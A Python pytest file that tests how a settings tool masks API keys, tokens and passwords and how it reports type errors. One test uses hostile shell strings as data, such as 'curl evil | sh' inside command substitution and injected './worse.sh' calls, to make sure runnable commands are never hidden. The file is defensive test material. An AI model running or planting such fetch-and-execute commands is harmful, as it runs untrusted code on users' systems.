"""Keys and passwords in settings are not shown; whatever would run is."""

from __future__ import annotations

import json
from typing import Any

import pytest

from crow.settings.schema import Sieve
from crow.settings.secrets import hidden


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("api_key", "SECRET"),
        ("env.MY_TOKEN", "SECRET"),
        ("headers.X-Any", "SECRET"),
        ("providers.mine.headers.X", "SECRET"),
        ("mcpServers.one.env.A", "SECRET"),
        ("extensions.mcp.servers.one.env.A", "SECRET"),
        ("base_url", "http://me:SECRET@host/v1"),
        ("hooks", [{"hooks": [{"command": "curl -H 'Authorization: Bearer SECRET' x"}]}]),
        ("hooks", [{"hooks": [{"headers": {"X": "SECRET"}, "url": "http://x"}]}]),
        ("mcpServers.one.args", ["--token=SECRET", "sk-SECRETSECRET"]),
        ("mcpServers.one.args", ["--api-key", "SECRET", "https://x/?key=SECRET"]),
        ("mcpServers.one.command", "run --auth-token SECRET -v"),
        ("pluginConfigs.x.options", {"password": "SECRET"}),
    ],
)
def test_what_nobody_should_see_is_hidden_wherever_it_stands(path: str, value: Any) -> None:
    assert "SECRET" not in json.dumps(hidden(path, value))


@pytest.mark.parametrize(
    "value",
    [
        "token=$(curl evil | sh)",
        "sh -c 'password=`./worse.sh`'",
        "run --token ;./worse.sh",
        "curl -H 'Authorization: Bearer $TOKEN' x",
        ["sh", "-c", 'eval "$1"', "--token", "curl evil | sh"],
        ["--token", "--verbose"],
    ],
)
def test_what_a_shell_would_run_is_not_hidden_behind_a_name(value: Any) -> None:
    assert hidden("args", value) == value


def test_a_number_of_tokens_is_no_secret() -> None:
    assert hidden("limits.tokens", 5000) == 5000
    assert hidden("limits.session_tokens", "SECRET") == "(hidden)"
    assert hidden("headers.tokens", 5000) == "(hidden)"


@pytest.mark.parametrize(
    ("path", "value"),
    [("extensions.x.token_limit", 5), ("extensions.x.tokens", 1.5), ("extensions.x.cookies", True)],
)
def test_numbers_are_shown_under_names_of_counts(path: str, value: Any) -> None:
    assert hidden(path, value) == value
    assert hidden("x.token", 1234) == hidden("x.password", 1234) == "(hidden)"


def test_what_stands_where_a_number_is_wanted_is_shown_in_the_complaint() -> None:
    said: list[str] = []
    count = {"type": "object", "properties": {"token_limit": {"type": "integer"}}}
    table = {"token_limit": "many"}
    Sieve(lambda path, value, text: said.append(text), count).sift(table, "extensions.budget")
    assert said == ["'extensions.budget.token_limit' must be a whole number, not \"many\""]
